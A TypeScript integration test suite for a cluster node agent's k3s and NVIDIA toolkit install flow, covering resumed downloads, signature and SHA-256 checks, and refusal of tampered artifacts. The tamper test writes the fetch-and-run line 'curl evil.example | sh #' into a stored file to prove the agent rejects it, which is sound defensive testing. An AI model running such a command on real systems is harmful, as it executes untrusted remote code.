/**
 * A join that brings its own k3s (DESIGN.md "Software on the node"): the real server signs an
 * uploaded stand-in k3s with its release key, the real agent (whose config carries that key)
 * downloads it through a line that drops in the middle and resumes with `Range`, checks the
 * signature and the SHA-256, installs it and starts it through the k3s-agent unit. A file changed
 * on the server, or a join signed by another key, is refused with a sentence on the console and a
 * flag for ops; nothing is installed or run, and the agent keeps trying. The NVIDIA container
 * toolkit's packages are installed with dpkg, once, before k3s starts and finds the runtime.
 */
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { exportJWK, generateKeyPair } from 'jose';
import { afterEach, describe, expect, it } from 'vitest';
import { NVIDIA_TOOLKIT_PACKAGES } from '../../protocol/artifacts.js';
import { type DaemonSetup, FAST_INTERVALS, setupDaemon } from './agent-daemon-support.js';
import { sha256, upload } from './artifact-support.js';
import { type CuttingProxy, startCuttingProxy } from './cutting-proxy.js';

let setups: DaemonSetup[] = [];
let proxies: CuttingProxy[] = [];
afterEach(async () => {
  for (const p of proxies) await p.close();
  for (const s of setups) await s.cleanup();
  setups = [];
  proxies = [];
});

const poll = { timeout: 30_000, interval: 50 };
const VERSION = 'v1.31.4+k3s1';

/**
 * The k3s a test uploads: a script that logs how it was started (as `k3s-artifact …`) and exits,
 * followed by ~1 MB of random text after its `exit` (so a download takes many chunks and can be
 * cut in the middle; bash never reads past `exit`).
 */
function standInK3s(): Buffer {
  const script = [
    '#!/usr/bin/env bash',
    `# Stand-in for k3s ${VERSION}, uploaded as the k3s artifact by test/integration/agent-k3s-artifact.`,
    '[ -n "$HOMENODE_STANDIN_LOG" ] && printf \'k3s-artifact %s\\n\' "$*" >> "$HOMENODE_STANDIN_LOG"',
    `echo 'time="2026-11-02T09:58:03Z" level=info msg="Starting k3s agent ${VERSION} (a562d090)"'`,
    'exit 0',
    '',
  ].join('\n');
  const padding = randomBytes(768 * 1024)
    .toString('base64')
    .replace(/(.{76})/g, '# $1\n');
  return Buffer.from(script + padding);
}

/** The server's release key as build:iso writes it into the image's config. */
async function publishedKey(s: DaemonSetup) {
  const res = await s.server.api<{ publicKey: Record<string, string> }>('GET', '/v1/release-key', {
    token: null,
  });
  return res.body.publicKey;
}

/** Rewrites the agent's config with `releaseKey` and fast join retries. */
function configure(s: DaemonSetup, releaseKey: Record<string, string>) {
  const config = JSON.parse(readFileSync(s.configPath, 'utf8')) as Record<string, unknown>;
  config.releaseKey = releaseKey;
  config.intervals = { ...FAST_INTERVALS, joinRetryMinMs: 300, joinRetryMaxMs: 1_000, downloadRetryMs: 50 };
  writeFileSync(s.configPath, JSON.stringify(config));
}

async function setup(k3sInstalled = false) {
  const s = await setupDaemon({ k3sInstalled });
  setups.push(s);
  return s;
}

// Several real processes per test and a megabyte through a proxy: generous bounds for a loaded machine.
describe('joining with the k3s artifact', { timeout: 120_000 }, () => {
  it('downloads it, resumes after a cut with Range, verifies it, installs it and starts it', async () => {
    const s = await setup();
    const k3s = standInK3s();
    const uploaded = await upload(s.server, 'k3s', VERSION, k3s);
    expect(uploaded.status).toBe(201);
    configure(s, await publishedKey(s));
    const proxy = await startCuttingProxy(s.server.url, 300_000);
    proxies.push(proxy);
    s.useUrl(proxy.url);

    const agent = s.start();
    await agent.waitFor('Status: pending', 30_000);
    await s.server.api('POST', `/v1/nodes/${s.nodeId}/approve`, { body: {} });
    await expect.poll(async () => (await s.node()).status, poll).toBe('active');
    await agent.waitFor('Status: active', 30_000);

    // The first request was cut; the next asked for the rest, not the whole file again.
    expect(proxy.cutAt).toBe(300_000);
    expect(proxy.ranges[0]).toBe('');
    const resumedAt = Number(/^bytes=(\d+)-$/.exec(proxy.ranges[1] ?? '')?.[1]);
    expect(resumedAt).toBeGreaterThan(0);
    expect(resumedAt).toBeLessThan(300_000);
    await agent.waitFor(`Downloading k3s ${VERSION} (${(k3s.length / 1e6).toFixed(1)} MB).`, 1_000);
    await agent.waitFor(/Resuming the download of k3s v1\.31\.4\+k3s1 at 0\.\d MB of 1\.\d MB\./, 1_000);

    // The signed bytes, installed executable; the downloads folder is gone.
    const installed = readFileSync(s.paths.k3sBinary);
    expect(sha256(installed)).toBe(sha256(k3s));
    expect(statSync(s.paths.k3sBinary).mode & 0o777).toBe(0o755);
    expect(existsSync(s.paths.downloadDir)).toBe(false);
    const unit = readFileSync(join(s.paths.systemdDir, 'k3s-agent.service'), 'utf8');
    expect(unit).toContain(`ExecStart=${s.paths.k3sBinary} agent --config ${s.paths.k3sConfigPath}`);
    // systemd (the stand-in) started exactly that binary, with the join's config.
    expect(s.calls()).toContain(`k3s-artifact agent --config ${s.paths.k3sConfigPath}`);
    const state = JSON.parse(readFileSync(join(s.stateDir, 'join.json'), 'utf8')) as { k3sSha256: string };
    expect(state.k3sSha256).toBe(sha256(k3s));
    expect((await s.node()).flags.filter((f) => f.kind === 'artifact-refused')).toEqual([]);
  });

  it('refuses a file changed on the server: nothing installed or run, a flag for ops, and it keeps trying', async () => {
    const s = await setup();
    const k3s = standInK3s();
    const uploaded = await upload(s.server, 'k3s', VERSION, k3s);
    expect(uploaded.status).toBe(201);
    // Someone with access to the server's disk swaps the bytes (same size): the signature still
    // names the original SHA-256.
    const blob = join(s.server.dir, 'artifacts', 'sha256', sha256(k3s));
    const tampered = Buffer.from(k3s);
    tampered.write('curl evil.example | sh #', 200, 'latin1');
    writeFileSync(blob, tampered);
    configure(s, await publishedKey(s));

    const agent = s.start();
    await agent.waitFor('Status: pending', 30_000);
    await s.server.api('POST', `/v1/nodes/${s.nodeId}/approve`, { body: {} });
    await agent.waitFor(
      new RegExp(
        `k3s v1\\.31\\.4\\+k3s1 was refused and not installed: the downloaded file's SHA-256 is ` +
          `${sha256(tampered)}, not the signed ${sha256(k3s)}\\.`,
      ),
      30_000,
    );
    await agent.waitFor(/Trying the join again in \d+\.\d s \(attempt 2\)/, 10_000);
    await agent.waitFor(/Trying the join again in \d+\.\d s \(attempt 3\)/, 10_000);

    const detail = await s.node();
    expect(detail.status).toBe('approved');
    const flag = detail.flags.find((f) => f.kind === 'artifact-refused');
    expect(flag?.message).toContain(`not the signed ${sha256(k3s)}`);
    expect(existsSync(s.paths.k3sBinary)).toBe(false);
    expect(existsSync(join(s.paths.downloadDir, `${sha256(k3s)}.part`))).toBe(false);
    expect(s.calls().filter((c) => /^(k3s-artifact|systemctl enable|systemctl restart) /.test(c))).toEqual(
      [],
    );

    // Ops put the right bytes back: the agent's next try of the same join installs k3s, and the
    // server counts that answer (the node becomes active without reconnecting).
    writeFileSync(blob, k3s);
    await expect.poll(async () => (await s.node()).status, poll).toBe('active');
    expect(sha256(readFileSync(s.paths.k3sBinary))).toBe(sha256(k3s));
    expect(s.calls()).toContain(`k3s-artifact agent --config ${s.paths.k3sConfigPath}`);
  });

  it('refuses a k3s signed by another key before downloading anything', async () => {
    const s = await setup();
    const uploaded = await upload(s.server, 'k3s', VERSION, standInK3s());
    expect(uploaded.status).toBe(201);
    // The image carries another server's release key (or the join's signature was forged).
    const { publicKey } = await generateKeyPair('EdDSA', { crv: 'Ed25519', extractable: true });
    const other = await exportJWK(publicKey);
    configure(s, { kty: 'OKP', crv: 'Ed25519', x: String(other.x) });
    const proxy = await startCuttingProxy(s.server.url, Number.MAX_SAFE_INTEGER);
    proxies.push(proxy);
    s.useUrl(proxy.url);

    const agent = s.start();
    await agent.waitFor('Status: pending', 30_000);
    await s.server.api('POST', `/v1/nodes/${s.nodeId}/approve`, { body: {} });
    await agent.waitFor(`k3s ${VERSION} was refused and nothing was downloaded or installed`, 30_000);
    await agent.waitFor(/Trying the join again in \d+\.\d s/, 10_000);
    await expect
      .poll(async () => (await s.node()).flags.find((f) => f.kind === 'artifact-refused')?.message, poll)
      .toContain("the server's release key changed");
    expect(proxy.ranges).toEqual([]);
    expect(existsSync(s.paths.k3sBinary)).toBe(false);
    expect(s.calls().filter((c) => /^(k3s-artifact|systemctl enable) /.test(c))).toEqual([]);
  });
});

describe('joining with the NVIDIA container toolkit', { timeout: 120_000 }, () => {
  it('installs the signed packages with dpkg in order, once, before k3s starts and finds the runtime', async () => {
    const s = await setup(true);
    const debs = NVIDIA_TOOLKIT_PACKAGES.map((name) => ({ name, bytes: randomBytes(4096) }));
    for (const deb of debs)
      expect((await upload(s.server, deb.name, '1.17.3-1', deb.bytes)).status).toBe(201);
    configure(s, await publishedKey(s));
    // A proxy that never cuts: it counts the downloads.
    const proxy = await startCuttingProxy(s.server.url, Number.MAX_SAFE_INTEGER);
    proxies.push(proxy);
    s.useUrl(proxy.url);

    const agent = s.start();
    await agent.waitFor('Status: pending', 30_000);
    await s.server.api('POST', `/v1/nodes/${s.nodeId}/approve`, { body: {} });
    await agent.waitFor('Status: active', 30_000);
    await agent.waitFor(
      'NVIDIA container runtime found at /usr/bin/nvidia-container-runtime: k3s adds the "nvidia" runtime handler when it starts.',
      1_000,
    );
    const files = debs.map((d) => join(s.paths.downloadDir, sha256(d.bytes)));
    const order = s.calls().filter((c) => /^(dpkg|systemctl enable|k3s agent) /.test(c));
    expect(order).toEqual([
      `dpkg -i --force-confold ${files.join(' ')}`,
      'systemctl enable --now k3s-agent',
      `k3s agent --config ${s.paths.k3sConfigPath}`,
    ]);
    const state = JSON.parse(readFileSync(join(s.stateDir, 'join.json'), 'utf8')) as Record<string, unknown>;
    expect(state).toMatchObject({
      packages: debs.map((d) => sha256(d.bytes)),
      nvidiaRuntime: '/usr/bin/nvidia-container-runtime',
    });

    // A restart checks the signatures again but downloads and installs nothing twice.
    expect(proxy.ranges).toHaveLength(4);
    agent.kill('SIGTERM');
    await agent.done;
    const again = s.start();
    await again.waitFor(/Joined the cluster \(already set up; checked\)/, 30_000);
    expect(s.calls().filter((c) => c.startsWith('dpkg '))).toHaveLength(1);
    expect(proxy.ranges).toHaveLength(4);
  });
});
